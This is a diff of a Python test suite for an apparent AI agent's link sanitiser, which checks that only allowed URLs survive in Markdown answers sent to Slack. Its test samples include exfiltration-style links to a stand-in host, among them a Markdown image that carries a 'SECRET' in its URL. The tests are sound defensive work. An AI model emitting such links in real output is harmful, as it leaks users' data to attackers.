@@ -1,49 +1,22 @@
 """The last step before everything but Slack: no link but to what is allowed, to no reader."""
 
 import json
-import re
 import time
-from itertools import product
 
 import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
-from markdown_it import MarkdownIt
 
 from fetcher.agent import Answer, Source
 from fetcher.agent.files.answer_files import FilePolicy, make_file
 from fetcher.agent.remote.wire import texts_of
 from fetcher.agent.safety.allowed_links import AllowedLinks, links_of, only_links, only_urls
-from tests.fetcher.agent.safety.test_sanitising import PIECES
+from tests.fetcher.agent.safety.test_markdown_writer import PIECES
+from tests.markdown_readers import found
 
 READ = "https://read.example/?a=1&region=jp&section=2"
 EVIL = "https://evil.example/c/736563"
 ALLOWED = AllowedLinks([READ, "https://read.example/", "https://read.example/%E6%9D%B1%E4%BA%AC"])
-READERS = [
-    MarkdownIt(preset, {"html": html}).enable(rules)
-    for preset, html, rules in product(
-        ("commonmark", "js-default"), (True, False), ([], ["table", "strikethrough"])
-    )
-]
-BARE = re.compile(
-    r"(?:[a-z0-9+.-]*://[^\s<>]|(?<![\w.@/-])www\.[a-z0-9]|(?<![\w/:])//[\w\[]|(?:mailto|https?):[\w\\])[^\s<>]*",
-    re.IGNORECASE,
-)
-"""What a program takes for a URL that makes links of bare ones."""
-
-
-def found_by(reader, markdown):
-    """All that a reader of Markdown links to or loads, and all bare URLs in what it takes for words."""
-    waiting, links = list(reader.parse(markdown)), []
-    for token in waiting:
-        waiting += token.children or ()
-        links += [str(token.attrs[name]) for name in ("href", "src") if name in token.attrs]
-        if token.type in ("text", "html_block", "html_inline"):
-            links += [
-                url.lstrip("+.-0123456789").rstrip(".,:;!?'\"*_~`)]|\\")
-                for url in BARE.findall(token.content)
-            ]
-    return links
 
 
 @given(
@@ -61,9 +34,8 @@ def test_no_reader_of_markdown_finds_another_link(markdown):
     """With HTML or without, with tables or without, with bare URLs as links too."""
     written = only_links(markdown, ALLOWED)
     again = only_links(written, ALLOWED)  # an answer passes more than one way out
-    for reader in READERS:
-        assert [url for url in found_by(reader, written) if url not in ALLOWED] == []
-        assert [url for url in found_by(reader, again) if url not in ALLOWED] == []
+    assert [url for url in found(written) if url not in ALLOWED] == []
+    assert [url for url in found(again) if url not in ALLOWED] == []
 
 
 @pytest.mark.parametrize(
@@ -97,7 +69,7 @@ def test_links_with_parameters_that_look_like_entities_stay():
         f"[料金]({READ.replace('&', '&amp;')})です",
     ):
         assert READ in only_links(markdown, ALLOWED)
-        assert found_by(READERS[0], only_links(markdown, ALLOWED)).count(READ) >= 1
+        assert READ in found(only_links(markdown, ALLOWED))
     assert f"`{EVIL}&region=jp`" in only_links(f"[a]({EVIL}&amp;region=jp)", ALLOWED)
 
 
@@ -108,7 +80,7 @@ def test_titles_and_notes_make_no_links():
         text=f"はい。{EVIL}", sources=(source,), undone=(f"{EVIL}：時間内に読み終わりませんでした。",)
     )
     for text in texts_of(answer):
-        assert {url for reader in READERS for url in found_by(reader, text)} <= {"https://read.example/"}
+        assert set(found(text)) <= {"https://read.example/"}
     assert "https://read.example/" in links_of(answer)
 
 
@@ -147,7 +119,7 @@ def test_a_file_holds_no_url_of_the_models_making(mime_type, content):
     text = file.content.decode()
     assert text.count(READ) == content.count(READ)
     if mime_type == "text/markdown":
-        assert found_by(READERS[0], text) == [READ]
+        assert set(found(text)) == {READ}
     else:
         assert EVIL not in text
         assert "https: //evil.example/c/736563" in text
@@ -162,12 +134,3 @@ def test_hostile_text_takes_linear_time(unit):
     started = time.process_time()
     only_urls(unit * (1_000_000 // len(unit)), ALLOWED)
     assert time.process_time() - started < 8
-
-
-@pytest.mark.parametrize("text", ["![x](http://evil.example/c/SECRET)", "[x](http://evil.example/)", "<@U1>"])
-@pytest.mark.parametrize("block", ["```\n{}\n```", "~~~\n{}\n~~~", "> ```\n> {}\n> ```", "    {}\n"])
-def test_marks_of_ours_move_no_text_out_of_code(text, block):
-    """The characters around the numbers of sources are nobody else's to use."""
-    shown = only_links(block.format(f"\x0e{text}\x0f"), AllowedLinks(()))
-    assert not [token for token in MarkdownIt().parse(shown) if token.children]
-    assert "\x0e" not in shown
